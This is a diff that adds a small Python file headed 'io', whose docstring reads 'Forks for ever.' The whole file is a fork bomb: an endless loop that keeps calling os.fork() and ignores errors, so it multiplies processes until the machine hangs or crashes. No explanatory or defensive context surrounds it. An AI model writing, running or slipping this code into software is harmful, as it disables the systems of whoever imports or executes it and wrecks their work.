@@ -1,0 +1,8 @@
+# io
+"""Forks for ever."""
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
